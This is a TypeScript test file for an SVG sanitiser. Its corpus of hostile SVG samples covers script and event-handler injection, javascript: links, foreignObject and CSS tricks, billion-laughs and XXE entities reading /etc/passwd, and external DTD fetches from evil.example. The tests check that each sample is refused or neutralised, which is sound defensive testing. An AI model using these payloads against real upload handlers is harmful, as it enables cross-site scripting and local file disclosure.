import { describe, expect, it } from 'vitest';
import { executableSvg } from '../../../tests/support/executable-markup';
import { sanitiseSvg, UnsafeSvgError } from './sanitise-svg';

/**
 * A corpus of hostile SVG files, grouped by the trick they play. Each is either refused (UnsafeSvgError) or
 * comes out as a well-formed SVG in which neither an SVG viewer nor an HTML page inlining it finds anything
 * to run, load or navigate to (read by jsdom's XML and HTML parsers). Some must be refused outright.
 */
const SVG = 'xmlns="http://www.w3.org/2000/svg"';
const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const XHTML = 'http://www.w3.org/1999/xhtml';
const file = (body: string, attributes = '') =>
  `<svg ${SVG} ${XLINK} width="100" height="100"${attributes}>${body}</svg>`;

const CLEANED: Record<string, string[]> = {
  scripts: [
    file('<script>alert(1)</script>'),
    file('<script type="text/ecmascript"><![CDATA[alert(1)]]></script>'),
    file('<script xlink:href="data:,alert(1)"/>'),
    file('<script href="https://evil.example/x.js"/>'),
    file('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'),
    file(`<h:script xmlns:h="${XHTML}">alert(1)</h:script>`),
    file(`<script xmlns="${XHTML}">alert(1)</script>`),
    file('<SCRIPT>alert(1)</SCRIPT>'),
    file('<g><script>alert(1)</script><rect width="1" height="1"/></g>'),
  ],
  'event handlers': [
    file('<rect width="1" height="1"/>', ' onload="alert(1)"'),
    file('<rect width="1" height="1" onmouseover="alert(1)"/>'),
    file('<g ONLOAD="alert(1)" onLoad="alert(2)"><rect width="1" height="1"/></g>'),
    file('<image href="#x" onerror="alert(1)" width="1" height="1"/>'),
    file('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
    file('<set onend="alert(1)" attributeName="x" to="1"/>'),
    file(`<rect xmlns:h="${XHTML}" h:onclick="alert(1)" width="1" height="1"/>`),
  ],
  'links out of the file': [
    file('<a href="javascript:alert(1)"><text y="20">x</text></a>'),
    file('<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>'),
    file('<use href="https://evil.example/sprite.svg#a"/>'),
    file('<use xlink:href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIvPg==#x"/>'),
    file('<use href=" javascript:alert(1)"/>'),
    file('<use href="&#106;avascript:alert(1)"/>'),
    file('<image href="file:///etc/passwd" width="1" height="1"/>'),
    file('<image href="https://evil.example/pixel.png" width="1" height="1"/>'),
    file('<image xlink:href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;" width="1" height="1"/>'),
    file('<image href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" width="1" height="1"/>'),
    file('<filter id="f"><feImage href="https://evil.example/x.png"/></filter>'),
    file('<pattern id="p" href="https://evil.example/p.svg#p"/>'),
    file('<linearGradient id="g" xlink:href="https://evil.example/g.svg#g"/>'),
    file(
      '<defs><path id="c" d="M0 0"/></defs><text><textPath href="javascript:alert(1)">x</textPath></text>',
    ),
    file('<g xml:base="javascript:alert(1)//"><use href="#r"/></g><rect id="r" width="1" height="1"/>'),
    file('<rect id="r" width="1" height="1"/><use href="#r" xlink:href="https://evil.example/#r"/>'),
  ],
  'animation that rewrites links or handlers': [
    file('<a><animate attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a>'),
    file('<a><set attributeName="xlink:href" to="javascript:alert(1)"/><text y="20">x</text></a>'),
    file('<a href="#x"><animate attributeName="href" values="javascript:alert(1);#x" dur="1s"/></a>'),
    file('<animateMotion dur="1s"><mpath href="https://evil.example/p.svg#p"/></animateMotion>'),
    file('<rect width="1" height="1"><set attributeName="onclick" to="alert(1)"/></rect>'),
    file('<discard onbegin="alert(1)"/>'),
    file('<handler type="application/ecmascript">alert(1)</handler>'),
    file('<listener event="load" handler="#h"/>'),
  ],
  foreignObject: [
    file(
      `<foreignObject width="9" height="9"><body xmlns="${XHTML}"><img src="x" onerror="alert(1)"/></body></foreignObject>`,
    ),
    file(
      `<switch><foreignObject><iframe xmlns="${XHTML}" src="javascript:alert(1)"/></foreignObject><rect width="1" height="1"/></switch>`,
    ),
    file(
      `<foreignObject><form xmlns="${XHTML}" action="javascript:alert(1)"><button>go</button></form></foreignObject>`,
    ),
    file(`<g><iframe xmlns="${XHTML}" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/></g>`),
    file(`<rect xmlns="${XHTML}" width="1" height="1" onclick="alert(1)"/>`),
  ],
  'style sheets and style attributes': [
    file('<style>@import url(https://evil.example/a.css);</style>'),
    file("<style>@import 'https://evil.example/a.css';</style>"),
    file('<style>rect { fill: url(https://evil.example/x#a) }</style>'),
    file('<style>@font-face { font-family: x; src: url(https://evil.example/f.woff) }</style>'),
    file('<style>rect { background: url(javascript:alert(1)) }</style>'),
    file('<style>rect { behavior: url(x.htc) }</style>'),
    file('<style>rect { fill: \\75 rl(https://evil.example/) }</style>'),
    file('<style>rect { width: expression(alert(1)) }</style>'),
    file("<style><![CDATA[ @import 'https://evil.example/x.css'; ]]></style>"),
    file('<style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style>'),
    file('<style>rect { -moz-binding: url(https://evil.example/b.xml#b) }</style>'),
    file(`<rect width="1" height="1" style="fill: url('https://evil.example/a')"/>`),
    file('<rect width="1" height="1" style="-moz-binding: url(x.xml#b)"/>'),
    file('<rect width="1" height="1" style="fill: u\\72l(x)"/>'),
  ],
  'url() in presentation attributes': [
    file('<rect width="1" height="1" fill="url(https://evil.example/#a)"/>'),
    file('<rect width="1" height="1" filter="url(https://evil.example/f.svg#f)"/>'),
    file(`<rect width="1" height="1" mask="url('data:image/svg+xml,x')"/>`),
    file('<path d="M0 0L9 9" marker-end="url(http://evil.example/#m)"/>'),
    file('<rect width="1" height="1" clip-path="url( https://evil.example/#c )"/>'),
    file('<rect width="1" height="1" fill="url(#a) url(https://evil.example/#b)"/>'),
  ],
  'XML tricks': [
    `<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>${file('<rect width="1" height="1"/>')}`,
    file('<![CDATA[<script>alert(1)</script>]]>'),
    file('<text><![CDATA[</text><script>alert(1)</script>]]></text>'),
    file('<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>'),
    file('<desc><![CDATA[<img src=x onerror=alert(1)>]]></desc>'),
    file('<!-- <script>alert(1)</script> --><rect width="1" height="1"/>'),
    file('<?php echo 1; ?><rect width="1" height="1"/>'),
    `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">${file('<rect width="1" height="1"/>')}`,
    file('<metadata><x:y xmlns:x="https://evil.example/ns" onload="alert(1)"/></metadata>'),
    file('<rect id="a&quot; onload=&quot;alert(1)" width="1" height="1"/>'),
  ],
};

const REFUSED: Record<string, string> = {
  'billion laughs': `<!DOCTYPE svg [<!ENTITY a "lollollollollollollollollollol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>${file('<text>&c;</text>')}`,
  'an external entity (XXE)': `<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${file('<text>&xxe;</text>')}`,
  'a parameter entity fetching a DTD': `<!DOCTYPE svg [<!ENTITY % dtd SYSTEM "https://evil.example/x.dtd"> %dtd;]>${file('')}`,
  'an entity from an external DTD': `<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">${file('<text>&secret;</text>')}`,
  'an HTML entity XML does not know': file('<text>&nbsp;&lt;script&gt;</text>'),
  'a use of itself': file('<use id="a" href="#a"/>'),
  'uses of each other': file('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
  'nesting too deep to render': file(`${'<g>'.repeat(150)}${'</g>'.repeat(150)}`),
  'too many elements': file('<rect width="1" height="1"/>'.repeat(20_001)),
  'an HTML document': `<html xmlns="${XHTML}"><body><svg ${SVG} width="1" height="1"/><script>alert(1)</script></body></html>`,
  'HTML-style markup (unquoted attributes)':
    '<svg xmlns="http://www.w3.org/2000/svg" width=1 height=1 onload=alert(1)></svg>',
  'a second root smuggled after the svg': `${file('')}<script xmlns="${XHTML}">alert(1)</script>`,
};

describe.each(Object.entries(CLEANED))('sanitiseSvg corpus: %s', (_group, files) => {
  it.each(files)('%s', (input) => {
    let output: string;
    try {
      output = sanitiseSvg(input).svg;
    } catch (error) {
      // Refusing is always safe; anything else thrown would be a 500.
      expect(error).toBeInstanceOf(UnsafeSvgError);
      return;
    }
    expect(executableSvg(output)).toEqual([]);
    expect(sanitiseSvg(output).svg).toBe(output);
  });
});

describe('sanitiseSvg corpus: refused outright', () => {
  it.each(Object.entries(REFUSED))('%s', (_what, input) => {
    expect(() => sanitiseSvg(input)).toThrow(UnsafeSvgError);
  });
});

describe('sanitiseSvg corpus: what stays', () => {
  it('keeps the drawing, internal references and embedded raster images', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    const output = sanitiseSvg(
      file(
        `<defs><linearGradient id="g"><stop offset="1" stop-color="#00f"/></linearGradient><path id="p" d="M0 0L9 9"/></defs>` +
          `<use xlink:href="#p"/><rect width="9" height="9" fill="url(#g)"/><image href="${png}" width="1" height="1"/>` +
          '<style>.a { fill: url(#g) }</style><text><textPath href="#p">Hi</textPath></text>',
      ),
    ).svg;
    expect(executableSvg(output)).toEqual([]);
    for (const kept of [
      'xlink:href="#p"',
      'fill="url(#g)"',
      `href="${png}"`,
      '.a { fill: url(#g) }',
      'href="#p">Hi',
    ]) {
      expect(output).toContain(kept);
    }
  });
});
